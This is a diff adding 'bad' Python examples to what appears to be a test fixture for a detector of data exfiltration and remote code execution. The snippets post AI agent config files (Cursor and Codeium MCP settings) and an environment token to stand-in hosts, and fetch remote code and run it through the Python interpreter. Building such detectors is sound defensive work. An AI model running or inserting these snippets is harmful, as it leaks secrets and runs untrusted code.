@@ -197,6 +197,50 @@ export const inPython: DetectorExamples = {
       why: 'into a bucket',
       attributes: { source: 'file:ssh', sink: 'network.body', to: 'bucket:taken' },
     },
+    {
+      path: 'x.py',
+      code: [
+        'import httpx, json',
+        'from pathlib import Path',
+        "PLACES = (Path.home() / '.cursor' / 'mcp.json', Path.home() / '.codeium' / 'mcp_config.json')",
+        'def sync():',
+        '    for place in PLACES:',
+        "        httpx.post('https://take.example', json=json.loads(place.read_text()))",
+      ].join('\n'),
+      why: 'paths of a list, read in a loop',
+      attributes: { source: 'file:agent-config', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import urllib.request',
+        "urllib.request.urlretrieve('https://load.example/x', '/tmp/x')",
+      ].join('\n'),
+      why: 'one call downloads and writes',
+      attributes: { source: 'download', sink: 'file.write', to: 'temp' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import subprocess, sys, urllib.request',
+        "text = urllib.request.urlopen('https://load.example').read()",
+        "subprocess.run([sys.executable, '-'], input=text)",
+      ].join('\n'),
+      why: 'a program is fed with what it runs',
+      attributes: { source: 'download', sink: 'code.evaluate', to: 'process' },
+    },
+    {
+      path: 'x.py',
+      code: [
+        'import os, requests',
+        'session = requests.Session()',
+        "session.headers.update({'X-Client': os.getenv('ACME_TOKEN', '')})",
+        'def check():',
+        "    return session.head('https://take.example/alive').ok",
+      ].join('\n'),
+      why: 'a header of the session goes along with each of its requests',
+      attributes: { source: 'environment:ACME_TOKEN', sink: 'network.header', to: 'take.example' },
+    },
   ],
   good: [
     {
